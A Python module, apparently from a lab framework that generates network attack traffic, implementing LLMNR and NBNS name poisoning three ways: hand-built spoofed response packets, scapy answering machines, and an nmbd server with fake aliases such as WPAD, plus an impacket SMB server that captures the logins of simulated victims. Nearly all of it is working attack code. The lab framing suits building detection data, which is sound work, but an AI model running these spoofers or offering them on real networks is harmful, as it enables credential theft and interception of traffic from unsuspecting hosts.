"""LLMNR and NBNS poisoning: somebody asks the whole link for a name, the attacker says it is his."""

import os
import socket

from attacks.local import victims
from attacks.way import Way
from honest.naming import question
from isolate import WORK

LLMNR, NBNS, MDNS = ("224.0.0.252", 5355), 137, ("224.0.0.251", 5353)


def askers(act):
    """Honest hosts that mistype a server's name; the one that answers is then visited."""
    hosts = victims(act)

    def ask(host):
        while act.pause(act.rng.expovariate(1)):
            name = act.rng.choice([b"filesrv", b"prinetr", b"wpad", b"intranet"])
            if act.rng.random() < 0.4:
                act.run(["nmblookup", "-d", "0", f"--option=interfaces=eth0", name.decode()], 4)
            else:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
                    client.bind((host.v4, 0))
                    client.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(host.v4))
                    client.settimeout(0.6)
                    client.sendto(question(act.rng, [name]), LLMNR)
                    try:
                        client.recv(512)
                    except TimeoutError:
                        continue
            if act.rng.random() < 0.5:
                act.run(["smbclient", f"//{act.host.v4}/files", "secret", "-U", "carol", "-c", "ls"], 4)

    return [act.elsewhere(host, lambda host=host: ask(host), "announce") for host in hosts]


def capture_logins(act):
    """Somebody has to listen where the victims are sent."""
    program = "/usr/share/doc/python3-impacket/examples/smbserver.py"
    if os.path.exists(program):
        act.spawn(["/usr/bin/python3", program, "-smb2support", "-ip", act.host.v4, "files", f"{WORK}/tmp"])


def group_socket(address, group, port):
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("", port))
    if group:
        server.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + socket.inet_aton(address))
    server.settimeout(0.2)
    return server


def own(act):
    """Answers every question of both protocols, at once or a little late, all names or some."""
    capture_logins(act)
    late, share = act.pick("delay_s", [0.0, 0.02, 0.15]), act.pick("share", [1.0, 1.0, 0.5])
    me = socket.inet_aton(act.host.v4)
    servers = [(group_socket(act.host.v4, LLMNR[0], LLMNR[1]), False), (group_socket(act.host.v4, None, NBNS), True)]
    threads = askers(act)
    while not act.over():
        for server, netbios in servers:
            try:
                data, peer = server.recvfrom(1024)
            except TimeoutError:
                continue
            if data[2] & 0x80 or act.rng.random() > share or peer[0] == act.host.v4:
                continue
            act.pause(late)
            if netbios:
                server.sendto(data[:2] + b"\x85\0\0\0\0\x01\0\0\0\0" + data[12:46] + b"\0\x20\0\x01\0\0\0\xa5\0\x06\0\0" + me, peer)
            else:
                server.sendto(data[:2] + b"\x80\0\0\x01\0\x01\0\0\0\0" + data[12:] + b"\xc0\x0c\0\x01\0\x01\0\0\0\x1e\0\x04" + me, peer)
    for server, _ in servers:
        server.close()
    for thread in threads:
        thread.join()


def scapy(act):
    """The answering machines of the packet library."""
    capture_logins(act)
    threads = askers(act)
    script = act.scratch_lines([
        "import sys, logging; logging.getLogger('scapy').setLevel(logging.CRITICAL)", "from scapy.all import conf, AsyncSniffer",
        "from scapy.layers.llmnr import LLMNR_am", "from scapy.layers.netbios import NBNS_am", "import threading",
        "conf.iface = 'eth0'; conf.verb = 0", "address = sys.argv[1]",
        "threading.Thread(target=lambda: NBNS_am(ip=address, iface='eth0')(), daemon=True).start()",
        "LLMNR_am(joker=address, iface='eth0')()"], suffix=".py")
    act.run(["/usr/bin/python3", script, act.host.v4])
    for thread in threads:
        thread.join()


def nmbd(act):
    """Samba's own name server, with names that are not its own."""
    capture_logins(act)
    work = f"{WORK}/tmp/nmbd{act.rng.randrange(1 << 30)}"
    os.makedirs(work)
    conf = act.scratch_lines(["[global]", "netbios name = FILESRV", "netbios aliases = WPAD PRINETR INTRANET", "interfaces = eth0",
                              "workgroup = LAB", f"lock directory = {work}", f"state directory = {work}", f"cache directory = {work}",
                              f"pid directory = {work}", "log file = /dev/null", f"private dir = {work}"])
    act.spawn(["nmbd", "-F", "--no-process-group", "-s", conf])
    for thread in askers(act):
        thread.join()


F = "name_poisoning"
WAYS = [Way(F, tool, "answers", act, alone=True, seconds=(10, 22)) for tool, act in [("ours", own), ("scapy", scapy), ("nmbd", nmbd)]]
TOOLS = {"ours": "ours", "scapy": "python3-scapy", "nmbd": "samba"}
